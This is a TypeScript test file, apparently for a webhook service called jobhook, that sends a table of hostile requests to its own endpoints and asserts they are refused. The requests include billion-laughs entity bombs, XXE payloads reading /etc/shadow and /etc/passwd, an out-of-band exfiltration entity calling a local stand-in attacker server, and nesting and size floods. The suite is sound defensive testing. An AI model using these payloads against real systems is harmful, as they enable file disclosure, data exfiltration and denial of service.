import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { Queue, type JobType } from 'bullmq';
import { afterAll, beforeAll, describe, it, type ExpectStatic } from 'vitest';
import type { ErrorCode } from '../src/errors.js';
import { CloudEvent } from '../src/events/schema.js';
import type { JobhookEvent } from '../src/events/types.js';
import { EVENTS_QUEUE, QUARANTINE_QUEUE } from '../src/queue/queues.js';
import type { QuarantineEntry } from '../src/queue/types.js';
import {
  destroyOpenSockets,
  freshGet,
  rawExchange,
  type RawOutcome,
  type RawResponse,
  type Writer,
} from './helpers/hostile-net.js';
import { collect } from './helpers/gc.js';
import { startJobhook, TEST_TOKEN, withToken, type RunningJobhook } from './helpers/jobhook.js';
import { RedisServer } from './helpers/redis-server.js';
import { zerosBomb } from './helpers/zip-bomb.js';

/**
 * The hostile-request suite (issue 3 §4): a table of attacks, every one sent over a raw socket (node:net) to the
 * real service (HTTP server, receiver, BullMQ on a private redis-server) with JOBHOOK_REQUEST_TIMEOUT_MS=2000 and
 * the default 4 MiB body limit. For every case:
 *
 * - the answer has the expected status (and, when the answer is jobhook's JSON error, the expected code);
 *   status 0 means "the server closed the connection without answering" (only CONNECT);
 * - `jobhook-events` and `jobhook-quarantine` are unchanged, except for the cases the contract answers 200, which
 *   must add exactly their event (or their one quarantine entry);
 * - a GET /healthz on a fresh connection, issued right after the attack started, answers 200;
 * - no prototype was polluted.
 *
 * Answers Node's HTTP parser gives before jobhook sees the request (400/408/413/417/431 for broken framing, header
 * floods, huge URLs, slow senders) carry no JSON body, so those cases assert the status only.
 *
 * Cases within a category run concurrently (vitest's it.concurrent, at most 5 at a time) where they store nothing;
 * the 200 cases and the known-bug cases run one at a time after them, so "unchanged" is exact, and so do the
 * memory-heavy categories (see Category.serial). The RSS of this
 * process (server and client both) is measured before the suite and after every category and must stay below
 * before + 200 MB. Wall times are printed, never asserted.
 */

const LIMIT = 4 * 1024 * 1024;
const MB = 1024 * 1024;
const HUNDRED_MB = 100 * MB;
const RSS_BOUND = 200 * MB;
const T = TEST_TOKEN;

const CI = '/v1/callbacks/tencent-ci';
const AUTO = '/v1/callbacks';
const TDMQ = '/v1/callbacks/tdmq';
const QINIU = '/v1/callbacks/qiniu';

let redis: RedisServer;
let jobhook: RunningJobhook;
let port = 0;
let eventsQueue: Queue;
let quarantineQueue: Queue;
/** Counts every request that reaches it: an external entity, DTD or XInclude that was fetched shows here. */
let attacker: Server;
let attackerHits = 0;
let attackerUrl = 'http://127.0.0.1:9';
let rssBefore = 0;

// ---------------------------------------------------------------------------------------------------------------
// request and body builders

interface RequestOptions {
  readonly headers?: Readonly<Record<string, string>>;
  /** Header lines appended verbatim (each ending in CRLF): duplicates, floods, broken syntax. */
  readonly raw?: string;
  /** A Content-Length to declare instead of the body's length; false: none. */
  readonly contentLength?: number | false;
}

/** One HTTP/1.1 request as bytes. Header text is written byte for byte (latin1). */
function http(
  method: string,
  target: string,
  body?: string | Uint8Array,
  options: RequestOptions = {},
): Buffer {
  const bytes =
    body === undefined ? undefined : typeof body === 'string' ? Buffer.from(body) : Buffer.from(body);
  let head = `${method} ${target} HTTP/1.1\r\nHost: jobhook.test\r\n`;
  const length = options.contentLength ?? bytes?.length;
  if (length !== undefined && length !== false) head += `Content-Length: ${length}\r\n`;
  for (const [name, value] of Object.entries(options.headers ?? {})) head += `${name}: ${value}\r\n`;
  head += `${options.raw ?? ''}\r\n`;
  return Buffer.concat([Buffer.from(head, 'latin1'), bytes ?? Buffer.alloc(0)]);
}

const post = (target: string, body: string | Uint8Array, options: RequestOptions = {}): Buffer =>
  http('POST', target, body, options);

/** POST with the token in the query, the way providers send it. */
const authed = (path: string, body: string | Uint8Array, options: RequestOptions = {}): Buffer =>
  post(withToken(path), body, options);

/** Builds the request only when the case runs, and writes it in 64 KiB pieces (stops once answered). */
const lazy =
  (build: () => Uint8Array) =>
  async (w: Writer): Promise<void> => {
    const bytes = build();
    for (let at = 0; at < bytes.length; at += 65_536)
      if (!(await w.write(bytes.subarray(at, at + 65_536)))) return;
  };

/** An authenticated POST of `body` with Transfer-Encoding: chunked, in 1 KiB chunks. */
function chunked(path: string, body: Buffer, headers: Readonly<Record<string, string>> = {}): Buffer {
  const parts: Buffer[] = [
    authed(path, '', { contentLength: false, headers: { 'Transfer-Encoding': 'chunked', ...headers } }),
  ];
  for (let at = 0; at < body.length; at += 1024) {
    const part = body.subarray(at, at + 1024);
    parts.push(Buffer.from(`${part.length.toString(16)}\r\n`), part, Buffer.from('\r\n'));
  }
  parts.push(Buffer.from('0\r\n\r\n'));
  return Buffer.concat(parts);
}

let jobSeq = 0;
/** A job id no other case uses, so a wrongly stored body can never hide behind a duplicate. */
const uid = (tag: string): string => `jhs-${tag}-${String(++jobSeq).padStart(4, '0')}`;

interface CiParts {
  /** Appended inside JobsDetail (XML elements, or JSON members starting with a comma). */
  readonly jobs?: string;
  /** Prepended inside the root (XML elements, or JSON members ending with a comma). */
  readonly top?: string;
  /** XML only: before the root (declaration, comments, DOCTYPE). */
  readonly prolog?: string;
}

const ciXml = (jobId: string, p: CiParts = {}): string =>
  `${p.prolog ?? ''}<Response>${p.top ?? ''}<EventName>TaskFinish</EventName><JobsDetail><Code>Success</Code>` +
  `<JobId>${jobId}</JobId><Tag>Transcode</Tag><State>Success</State><EndTime>2025-03-01T10:00:09+0800</EndTime>` +
  `<Input><Region>ap-guangzhou</Region><Bucket>demo-1250000000</Bucket><Object>in.mp4</Object></Input>${p.jobs ?? ''}` +
  `</JobsDetail></Response>`;

const ciJson = (jobId: string, p: CiParts = {}): string =>
  `{${p.top ?? ''}"EventName":"TaskFinish","JobsDetail":{"Code":"Success","JobId":"${jobId}","Tag":"Transcode",` +
  `"State":"Success","EndTime":"2025-03-01T10:00:09+0800","Input":{"Region":"ap-guangzhou",` +
  `"Bucket":"demo-1250000000","Object":"in.mp4"}${p.jobs ?? ''}}}`;

const tdmqEnvelope = (msgBody: string, extra = ''): string =>
  `{${extra}"TopicOwner":1250000000,"topicName":"ci-job-events","subscriptionName":"jobhook-http",` +
  `"msgId":"${uid('msg')}","msgBody":${JSON.stringify(msgBody)},"publishTime":1740794550}`;

const bytes = (...parts: (string | number[] | Uint8Array)[]): Buffer =>
  Buffer.concat(
    parts.map((p) =>
      typeof p === 'string' ? Buffer.from(p) : Array.isArray(p) ? Buffer.from(p) : Buffer.from(p),
    ),
  );

function billionLaughs(
  levels: number,
  root = '<Response><EventName>&lol{N};</EventName></Response>',
): string {
  const lines = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= levels; i++) lines.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<!doctype lolz [\n${lines.join('\n')}\n]>\n${root.replace('{N}', String(levels))}`;
}

/** `count` distinct items (attribute names, keys) as one flat string, built in small pieces (no 1M-entry array). */
function distinct(count: number, item: (i: number) => string): string {
  const pieces: string[] = [];
  let piece = '';
  for (let i = 0; i < count; i++) {
    piece += item(i);
    if (piece.length >= 65_536) {
      pieces.push(Buffer.from(piece).toString('latin1'));
      piece = '';
    }
  }
  pieces.push(piece);
  return pieces.join('');
}

const nestedXml = (depth: number, open = '<a>', close = '</a>'): string =>
  `<Response>${open.repeat(depth)}x${close.repeat(depth)}</Response>`;

// ---------------------------------------------------------------------------------------------------------------
// the table

interface CaseContext {
  readonly expect: ExpectStatic;
  readonly outcome: RawOutcome;
  /** The first answer's body as JSON, when it is JSON. */
  readonly json: unknown;
  /** Events this case added to jobhook-events (200 cases). */
  readonly events: readonly JobhookEvent[];
  /** Entries this case added to jobhook-quarantine (200 quarantined cases). */
  readonly quarantined: readonly QuarantineEntry[];
}

type Send = string | Uint8Array | ((writer: Writer) => Promise<void>);

interface Case {
  readonly name: string;
  readonly send: Send;
  /** Status of the (first) answer; 0: the server closes the connection without answering. */
  readonly expect: number;
  readonly expectCode?: ErrorCode;
  /** The contract answers 200 and stores: one event per entry of the answer, or one quarantine entry. */
  readonly stores?: 'event' | 'quarantine';
  /** Pipelined: the status of every answer, in order. */
  readonly statuses?: readonly number[];
  readonly check?: (ctx: CaseContext) => void | Promise<void>;
  /** A known bug in src/: the case asserts the correct behaviour and runs as it.fails. */
  readonly bug?: string;
  readonly timeoutMs?: number;
}

interface Category {
  readonly name: string;
  readonly cases: readonly Case[];
  /**
   * Run the cases one at a time: they make the server (or this client) allocate tens of MB each, and five at
   * once would measure the sum of their transient peaks rather than whether anything is retained.
   */
  readonly serial?: true;
}

const noAttackerHits = ({ expect }: CaseContext): void => {
  expect(attackerHits, 'an external resource was fetched').toBe(0);
};

/** `Content-Length` lies, 100 MB: the body is streamed lazily, 64 KiB at a time, until the server answers. */
function hundredMegabytes(head: Buffer | string, framing: 'length' | 'chunked' | 'one-chunk' | 'none'): Send {
  return async (w) => {
    if (!(await w.write(head))) return;
    if (framing === 'none') {
      await w.sleep(15_000);
      return;
    }
    const piece = Buffer.alloc(65_536, 0x20);
    const framed =
      framing === 'chunked'
        ? Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n')])
        : piece;
    if (framing === 'one-chunk' && !(await w.write(`${HUNDRED_MB.toString(16)}\r\n`))) return;
    for (let sent = 0; sent < HUNDRED_MB; sent += piece.length) if (!(await w.write(framed))) return;
    if (framing === 'chunked') await w.write('0\r\n\r\n');
    if (framing === 'one-chunk') await w.write('\r\n0\r\n\r\n');
  };
}

const answeredBeforeSent =
  (limit = HUNDRED_MB) =>
  ({ expect, outcome }: CaseContext): void => {
    console.log(`[hostile-suite]   client had sent ${(outcome.bytesSent / MB).toFixed(2)} MB when answered`);
    expect(outcome.finishedSendingBeforeAnswer, 'answered before the client finished sending').toBe(false);
    expect(outcome.bytesSent).toBeLessThan(limit);
  };

/** Writes `text` one byte at a time, `ms` apart, until the server answers or closes. */
const trickle =
  (text: string | Buffer, ms: number, step = 1, head: string | Buffer = '') =>
  async (w: Writer): Promise<void> => {
    if (head.length > 0 && !(await w.write(head))) return;
    const data = typeof text === 'string' ? Buffer.from(text, 'latin1') : text;
    for (let at = 0; at < data.length; at += step) {
      if (!(await w.write(data.subarray(at, at + step)))) return;
      if (!(await w.sleep(ms))) return;
    }
    await w.sleep(15_000);
  };

/** Sends the head (or nothing) and then waits, so only the server's timeout can end the exchange. */
const sendThenWait =
  (head: string | Buffer, end = false) =>
  async (w: Writer): Promise<void> => {
    if (head.length > 0 && !(await w.write(head))) return;
    if (end) w.end();
    await w.sleep(15_000);
  };

const isRecord = (v: unknown): v is Record<string, unknown> =>
  typeof v === 'object' && v !== null && !Array.isArray(v);

/** `detail.JobsDetail` (or its first entry) of a stored CI event. */
function jobsDetail(event: JobhookEvent | undefined): Record<string, unknown> {
  const detail: unknown = event?.data.detail;
  const jobs = isRecord(detail) ? detail.JobsDetail : undefined;
  const first: unknown = Array.isArray(jobs) ? jobs[0] : jobs;
  return isRecord(first) ? first : {};
}

const ownValue = (object: unknown, key: string): unknown =>
  isRecord(object) ? Object.getOwnPropertyDescriptor(object, key)?.value : undefined;

const storedCi =
  (more?: (event: JobhookEvent, ctx: CaseContext) => void) =>
  (ctx: CaseContext): void => {
    const [event] = ctx.events;
    ctx.expect(ctx.events).toHaveLength(1);
    ctx.expect(event?.type).toBe('tencent.ci.job.succeeded');
    ctx.expect(event?.subject).toMatch(/^jhs-/);
    ctx.expect(event?.data.tag).toBe('Transcode');
    if (event !== undefined) more?.(event, ctx);
  };

const reasonContains =
  (text: string) =>
  ({ expect, quarantined }: CaseContext): void => {
    expect(quarantined[0]?.reason).toContain(text);
  };

/** A CI-looking JSON document whose JobsDetail nests `depth` levels deep. */
const deepJson = (depth: number, open = '{"a":', close = '}'): string =>
  `{"EventName":"TaskFinish","JobsDetail":${open.repeat(depth)}1${close.repeat(depth)}}`;

const UTF16_BOM_LE = [0xff, 0xfe];
const UTF16_BOM_BE = [0xfe, 0xff];

const xxeSystem = (url: string): string =>
  `<?xml version="1.0" standalone="no"?><!DOCTYPE Response [<!ENTITY xxe SYSTEM "${url}">]>`;

const CATEGORIES: readonly Category[] = [
  {
    name: 'entity bombs',
    cases: [
      {
        name: 'billion laughs, 12 levels, lower-case doctype after a UTF-8 BOM',
        send: authed(CI, `\uFEFF${billionLaughs(12)}`),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'billion laughs through parameter entities',
        send: authed(
          CI,
          `<!DOCTYPE r [<!ENTITY % p0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY % p${i + 1} "${`%p${i};`.repeat(10)}">`).join('')}<!ENTITY lol "%p9;">]><Response>&lol;</Response>`,
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'billion laughs encoded as UTF-16LE with a BOM',
        send: authed(CI, bytes(UTF16_BOM_LE, Buffer.from(billionLaughs(9), 'utf16le'))),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'billion laughs behind encoding="GBK"',
        send: authed(CI, `<?xml version="1.0" encoding="GBK"?>${billionLaughs(9)}`),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'quadratic blowup: one 100 KB entity referenced 30 000 times',
        send: lazy(() =>
          authed(
            CI,
            `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(100_000)}">]><Response><EventName>${'&a;'.repeat(30_000)}</EventName></Response>`,
          ),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'quadratic blowup without a DOCTYPE: an undefined entity referenced 500 000 times',
        send: lazy(() => authed(CI, `<Response><EventName>${'&a;'.repeat(500_000)}</EventName></Response>`)),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'undefined entities in 100 000 attribute values',
        send: lazy(() =>
          authed(
            CI,
            `<Response ${distinct(100_000, (i) => `a${i}="&x;" `)}><EventName>TaskFinish</EventName></Response>`,
          ),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'recursive entities (a → b → a)',
        send: authed(CI, '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><Response>&a;</Response>'),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'billion laughs after 3 MB of leading white space',
        send: lazy(() => authed(CI, `${' \n'.repeat(1_500_000)}${billionLaughs(9)}`)),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'character references spelling an entity (&#38;lol9;) are decoded once, never re-parsed: stored',
        send: authed(
          CI,
          ciXml(uid('charref'), {
            jobs: '<Operation><UserData>&#38;lol9;&#x26;lol9;</UserData></Operation>',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => expect(event.data.userData).toBe('&lol9;&lol9;')),
      },
      {
        name: 'billion laughs inside a TDMQ msgBody is quarantined, never expanded',
        send: authed(TDMQ, tdmqEnvelope(billionLaughs(9))),
        expect: 200,
        stores: 'quarantine',
        check: reasonContains('MalformedXML'),
      },
    ],
  },
  {
    name: 'XXE',
    cases: [
      {
        name: 'SYSTEM file:///etc/shadow in a callback field, standalone="no"',
        send: lazy(() =>
          authed(
            CI,
            ciXml(uid('xxe'), { prolog: xxeSystem('file:///etc/shadow'), jobs: '<Message>&xxe;</Message>' }),
          ),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
        check: (ctx) => {
          noAttackerHits(ctx);
          ctx.expect(JSON.stringify(ctx.json)).not.toMatch(/root:/);
        },
      },
      {
        name: 'PUBLIC identifier with an external DTD on the attacker',
        send: lazy(() =>
          authed(CI, `<!DOCTYPE Response PUBLIC "-//JH//Evil//EN" "${attackerUrl}/public.dtd"><Response/>`),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
        check: noAttackerHits,
      },
      {
        name: 'out-of-band exfiltration through parameter entities',
        send: lazy(() =>
          authed(
            CI,
            `<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${attackerUrl}/?x=%file;'>">%eval;%exfil;]><Response/>`,
          ),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
        check: noAttackerHits,
      },
      {
        name: 'SYSTEM entities with expect://, php://filter, jar: and netdoc: URLs',
        send: authed(
          CI,
          '<!DOCTYPE r [<!ENTITY a SYSTEM "expect://id"><!ENTITY b SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"><!ENTITY c SYSTEM "jar:file:///tmp/x.zip!/a"><!ENTITY d SYSTEM "netdoc:/etc/passwd">]><Response>&a;&b;&c;&d;</Response>',
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'XXE encoded as UTF-16BE with a BOM',
        send: lazy(() =>
          authed(
            CI,
            bytes(
              UTF16_BOM_BE,
              Buffer.from(`${xxeSystem(`${attackerUrl}/be`)}<Response>&xxe;</Response>`, 'utf16le').swap16(),
            ),
          ),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
        check: noAttackerHits,
      },
      {
        name: 'XXE behind encoding="ISO-8859-1" and CRLF line ends',
        send: lazy(() =>
          authed(
            CI,
            `<?xml version="1.0" encoding="ISO-8859-1"?>\r\n<!DOCTYPE Response [\r\n<!ENTITY xxe SYSTEM "${attackerUrl}/latin1">\r\n]>\r\n<Response>&xxe;</Response>`,
          ),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
        check: noAttackerHits,
      },
      {
        name: 'XXE sent to the Qiniu route (a JSON provider)',
        send: lazy(() => authed(QINIU, `${xxeSystem(`${attackerUrl}/qiniu`)}<Response>&xxe;</Response>`)),
        expect: 400,
        expectCode: 'MalformedXML',
        check: noAttackerHits,
      },
      {
        name: 'XXE in TDMQ SIMPLIFIED mode (x-cmq-message-id header)',
        send: lazy(() =>
          authed(
            TDMQ,
            ciXml(uid('xxe'), { prolog: xxeSystem(`${attackerUrl}/tdmq`), jobs: '<Message>&xxe;</Message>' }),
            {
              headers: { 'x-cmq-message-id': 'm-xxe' },
            },
          ),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
        check: noAttackerHits,
      },
      {
        name: 'XInclude inside a real callback is stored as plain data, nothing fetched',
        send: lazy(() =>
          authed(
            CI,
            ciXml(uid('xinclude'), {
              jobs: `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${attackerUrl}/xi" parse="xml"><xi:fallback><Message>fallback</Message></xi:fallback></xi:include>`,
            }),
          ),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, ctx) => {
          noAttackerHits(ctx);
          ctx.expect(jobsDetail(event)['xi:include']).toEqual({ 'xi:fallback': { Message: 'fallback' } });
        }),
      },
      {
        name: 'xml-stylesheet instruction and xsi:schemaLocation on the attacker: stored, nothing fetched',
        send: lazy(() =>
          authed(
            CI,
            ciXml(uid('stylesheet'), {
              prolog: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${attackerUrl}/style.xsl"?>`,
            }).replace(
              '<Response>',
              `<Response xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${attackerUrl}/schema.xsd">`,
            ),
          ),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((_event, ctx) => noAttackerHits(ctx)),
      },
    ],
  },
  {
    name: 'DOCTYPE in odd places',
    cases: [
      {
        name: '<!DocType in mixed case',
        send: authed(CI, '<!DocType Response [<!ENTITY a "b">]><Response>&a;</Response>'),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'DOCTYPE after the root element',
        send: authed(CI, `${ciXml(uid('doctype'))}<!DOCTYPE Response [<!ENTITY a "b">]>`),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'DOCTYPE inside the root element',
        send: authed(CI, ciXml(uid('doctype'), { top: '<!DOCTYPE Response [<!ENTITY a "b">]>' })),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'DOCTYPE after 100 KB of comments',
        send: authed(
          CI,
          `${'<!-- padding -->'.repeat(6_400)}<!DOCTYPE r [<!ENTITY a "b">]><Response>&a;</Response>`,
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: '<!ENTITY without a DOCTYPE',
        send: authed(CI, '<!ENTITY a "b"><Response>&a;</Response>'),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: '<!ELEMENT and <!ATTLIST inside the root',
        send: authed(
          CI,
          ciXml(uid('doctype'), { top: '<!ELEMENT Response ANY><!ATTLIST Response a CDATA "x">' }),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: '"< !DOCTYPE" with a space',
        send: authed(CI, '< !DOCTYPE r [<!ENTITY a "b">]><Response>&a;</Response>'),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'DOCTYPE in UTF-16LE without a byte order mark',
        send: authed(CI, Buffer.from('<!DOCTYPE r [<!ENTITY a "b">]><Response>&a;</Response>', 'utf16le')),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'DOCTYPE after a UTF-8 BOM and CRLF blank lines',
        send: authed(
          CI,
          bytes([0xef, 0xbb, 0xbf], '\r\n\r\n\t<!DOCTYPE r SYSTEM "file:///etc/passwd"><Response/>'),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'DOCTYPE text inside CDATA is data: stored as sent',
        send: authed(
          CI,
          ciXml(uid('cdata'), {
            jobs: '<Operation><UserData><![CDATA[<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;]]></UserData></Operation>',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) =>
          expect(event.data.userData).toBe('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;'),
        ),
      },
      {
        name: 'DOCTYPE inside a comment is ignored: stored',
        send: authed(CI, ciXml(uid('comment'), { prolog: '<!-- <!DOCTYPE x [<!ENTITY a "b">]> -->' })),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'DOCTYPE text in a JSON string is data: stored as sent',
        send: authed(
          CI,
          ciJson(uid('jsondoctype'), {
            jobs: ',"Operation":{"UserData":"<!DOCTYPE x [<!ENTITY a SYSTEM \\"file:///etc/passwd\\">]>"}',
          }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) =>
          expect(event.data.userData).toBe('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        ),
      },
    ],
  },
  {
    name: 'deep nesting',
    cases: [
      { name: 'XML 100 levels', send: authed(CI, nestedXml(100)), expect: 400, expectCode: 'BodyTooDeep' },
      {
        name: 'XML 1 000 levels, every element with attributes',
        send: authed(CI, nestedXml(1_000, '<a x="1" y=\'2\'>')),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'XML 100 000 levels',
        send: lazy(() => authed(CI, nestedXml(100_000))),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'XML 10 000 levels never closed (truncated)',
        send: authed(CI, `<Response>${'<b>'.repeat(10_000)}`),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'XML 10 000 levels inside a valid callback JobsDetail',
        send: lazy(() =>
          authed(
            CI,
            ciXml(uid('deep'), {
              jobs: `<Operation>${'<O>'.repeat(10_000)}x${'</O>'.repeat(10_000)}</Operation>`,
            }),
          ),
        ),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'JSON 100 levels of objects',
        send: authed(CI, deepJson(100)),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'JSON 1 000 levels of objects',
        send: authed(CI, deepJson(1_000)),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'JSON 100 000 levels of objects',
        send: lazy(() => authed(CI, deepJson(100_000))),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'JSON 10 000 levels of arrays inside an object',
        send: authed(CI, deepJson(10_000, '[', ']')),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: 'JSON 50 000 alternating objects and arrays',
        send: lazy(() => authed(CI, deepJson(25_000, '{"a":[', ']}'))),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        // The depth bound is checked before parsing, so the nesting is refused before its truncation is seen.
        name: 'JSON 100 000 levels never closed',
        send: lazy(() => authed(CI, '{"a":'.repeat(100_000))),
        expect: 400,
        expectCode: 'BodyTooDeep',
      },
      {
        name: '10 000-deep XML inside a TDMQ msgBody is quarantined',
        send: authed(TDMQ, tdmqEnvelope(nestedXml(10_000))),
        expect: 200,
        stores: 'quarantine',
        check: reasonContains('BodyTooDeep'),
      },
    ],
  },
  {
    name: 'element counts',
    serial: true,
    cases: [
      {
        name: '1 000 000 small XML elements, under the size limit',
        send: lazy(() => {
          const body = `<Response>${'<a/>'.repeat(1_000_000)}</Response>`;
          if (body.length >= LIMIT) throw new Error('the case must stay under the limit');
          return authed(CI, body);
        }),
        expect: 400,
        expectCode: 'TooManyElements',
      },
      {
        name: '2 000 000 small XML elements, over the size limit',
        send: lazy(() => authed(CI, `<Response>${'<a/>'.repeat(2_000_000)}</Response>`)),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: '50 001 elements: one past JOBHOOK_MAX_ELEMENTS',
        send: authed(AUTO, `<Response>${'<e/>'.repeat(50_000)}</Response>`),
        expect: 400,
        expectCode: 'TooManyElements',
      },
      {
        name: '200 000 repeated JobsDetail in a callback',
        send: lazy(() =>
          authed(
            CI,
            `<Response><EventName>TaskFinish</EventName>${'<JobsDetail/>'.repeat(200_000)}</Response>`,
          ),
        ),
        expect: 400,
        expectCode: 'TooManyElements',
      },
      {
        name: '1 000 000 JSON numbers',
        send: lazy(() => authed(CI, `{"EventName":"TaskFinish","JobsDetail":[${'0,'.repeat(999_999)}0]}`)),
        expect: 400,
        expectCode: 'TooManyElements',
      },
      {
        name: '250 000 distinct JSON keys in one object',
        send: lazy(() => authed(AUTO, `{${distinct(250_000, (i) => `"k${i}":0,`)}"k":0}`)),
        expect: 400,
        expectCode: 'TooManyElements',
      },
      {
        name: '1 000 000 empty JSON objects',
        send: lazy(() => authed(CI, `{"EventName":"TaskFinish","JobsDetail":[${'{},'.repeat(999_999)}{}]}`)),
        expect: 400,
        expectCode: 'TooManyElements',
      },
      {
        name: '2 200 000 JSON values, over the size limit',
        send: lazy(() => authed(CI, `{"JobsDetail":[${'0,'.repeat(2_200_000)}0]}`)),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: '500 000 processing instructions (not elements) in an unknown document are quarantined',
        send: lazy(() => authed(AUTO, `<Response>${'<?a?>'.repeat(500_000)}</Response>`)),
        expect: 200,
        stores: 'quarantine',
      },
    ],
  },
  {
    name: 'attributes',
    serial: true,
    cases: [
      {
        name: '1 000 duplicate attributes (XML 1.0 WFC: Unique Att Spec)',
        send: authed(
          CI,
          ciXml(uid('dupattr')).replace('<JobsDetail>', `<JobsDetail${' a="1"'.repeat(1_000)}>`),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'an unterminated attribute value after 3 MB',
        send: lazy(() => authed(CI, `<Response a="${'x'.repeat(3 * MB)}><EventName/></Response>`)),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: '"<" inside an attribute value',
        send: authed(CI, ciXml(uid('attrlt')).replace('<JobsDetail>', '<JobsDetail a="<b/>">')),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'an attribute without a value',
        send: authed(CI, ciXml(uid('attrnovalue')).replace('<JobsDetail>', '<JobsDetail checked>')),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: '1 000 000 attributes (8 MB), over the size limit',
        send: lazy(() => authed(CI, `<Response ${distinct(1_000_000, (i) => `a${i}="" `)}/>`)),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: '100 000 distinct attributes on JobsDetail are ignored: stored',
        send: lazy(() =>
          authed(
            CI,
            ciXml(uid('attrs')).replace(
              '<JobsDetail>',
              `<JobsDetail ${distinct(100_000, (i) => `a${i}="${i}" `)}>`,
            ),
          ),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => {
          expect(Object.keys(jobsDetail(event))).not.toContain('a0');
          expect(Object.keys(jobsDetail(event)).length).toBeLessThan(20);
        }),
      },
      {
        name: 'one 3 MB attribute value on a callback is ignored: stored',
        send: lazy(() =>
          authed(
            CI,
            ciXml(uid('bigattr')).replace('<JobsDetail>', `<JobsDetail big="${'v'.repeat(3 * MB)}">`),
          ),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
    ],
  },
  {
    name: 'text nodes',
    serial: true,
    cases: [
      {
        name: 'a 5 MB text node (over the limit)',
        send: lazy(() =>
          authed(CI, ciXml(uid('text'), { jobs: `<Message>${'m'.repeat(5 * MB)}</Message>` })),
        ),
        expect: 413,
        expectCode: 'PayloadTooLarge',
      },
      {
        name: 'a 3 MB text node ending in an undefined entity',
        send: lazy(() =>
          authed(CI, ciXml(uid('text'), { jobs: `<Message>${'m'.repeat(3 * MB)}&bogus;</Message>` })),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'a 3 MB CDATA section that never ends',
        send: lazy(() =>
          authed(CI, `<Response><EventName><![CDATA[${'c'.repeat(3 * MB)}</EventName></Response>`),
        ),
        expect: 400,
        expectCode: 'MalformedXML',
      },
      {
        name: 'a 3 MB JSON string with a bad escape at its end',
        send: lazy(() => authed(CI, ciJson(uid('text'), { jobs: `,"Message":"${'m'.repeat(3 * MB)}\\x"` }))),
        expect: 400,
        expectCode: 'MalformedJSON',
      },
      {
